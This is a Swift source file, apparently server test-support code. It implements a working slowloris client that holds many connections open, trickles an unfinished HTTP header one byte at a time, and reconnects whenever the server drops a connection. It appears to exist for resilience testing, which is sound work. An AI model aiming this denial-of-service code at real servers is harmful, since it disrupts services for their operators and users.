import MeshTestSupport
import Foundation
import Glibc

/// A slowloris attack on one address: keeps `count` connections open, each sending one more byte
/// of a request header that never ends every `interval`. A connection the server closes is opened
/// again at its next turn, so the attacker holds `count` sockets for as long as it runs.
/// Runs on a thread of its own; `stop()` ends it and closes every socket.
final class SlowClients: @unchecked Sendable {
    let host: String
    let port: Int
    let count: Int
    let interval: TimeInterval
    private let lock = NSLock()
    private var isStopped = false
    private var connectionsMadeValue = 0
    private var closedByServerValue = 0
    private let finished = DispatchSemaphore(value: 0)

    init(host: String, port: Int, count: Int, interval: TimeInterval) {
        self.host = host; self.port = port; self.count = count; self.interval = interval
    }

    /// Connections opened so far (reconnections included).
    var connectionsMade: Int { lock.withLock { connectionsMadeValue } }
    /// Connections the server closed (or reset) while the attacker was still sending.
    var closedByServer: Int { lock.withLock { closedByServerValue } }

    func start() {
        let thread = Thread { [self] in run() }
        thread.start()
    }

    /// Stops the attack and waits until every socket is closed.
    func stop() {
        lock.withLock { isStopped = true }
        finished.wait()
    }

    private func run() {
        let header = Array("GET /v1/status HTTP/1.1\r\nHost: \(host):\(port)\r\nX-Slow: ".utf8)
        var sockets = [Int32?](repeating: nil, count: count)
        var sent = [Int](repeating: 0, count: count)
        while !lock.withLock({ isStopped }) {
            for index in 0..<count {
                if let fd = sockets[index], isClosedByPeer(fd) {
                    close(fd)
                    sockets[index] = nil
                    lock.withLock { closedByServerValue += 1 }
                }
                if sockets[index] == nil {
                    sockets[index] = RawHTTP.connect(host, port, timeoutSeconds: 0.5)
                    sent[index] = 0
                    if sockets[index] != nil { lock.withLock { connectionsMadeValue += 1 } }
                }
                guard let fd = sockets[index] else { continue }
                let byte = sent[index] < header.count ? header[sent[index]] : UInt8(ascii: "a")
                if RawHTTP.send(fd, [byte]) { sent[index] += 1 }
            }
            usleep(useconds_t(interval * 1_000_000))   // the attack's pace, not a synchronization
        }
        for fd in sockets.compactMap({ $0 }) { close(fd) }
        finished.signal()
    }

    /// True when the server has closed or reset the connection (a read finds end of stream or an error).
    private func isClosedByPeer(_ fd: Int32) -> Bool {
        var buffer = [UInt8](repeating: 0, count: 512)
        let received = recv(fd, &buffer, buffer.count, Int32(MSG_DONTWAIT))
        if received > 0 { return true }   // an answer (408, 503): the server is done with it
        if received == 0 { return true }
        return errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR
    }
}
